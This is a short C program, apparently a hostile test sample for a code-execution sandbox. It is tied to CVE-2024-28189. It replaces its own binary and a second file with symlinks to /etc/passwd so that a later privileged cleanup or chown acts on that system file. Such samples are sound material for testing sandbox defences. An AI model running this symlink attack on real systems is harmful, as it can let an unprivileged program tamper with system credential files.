/* CVE-2024-28189: replaces the program itself by a link, for whoever cleans or chowns it. */
#include "hostile.h"
int main(int argc, char **argv)
{
    unlink("main");
    (void)!symlink(argc > 2 ? argv[2] : "/etc/passwd", "main");
    (void)!symlink("/etc/passwd", "wanted.txt");
    puts("held: planted");
    return 0;
}
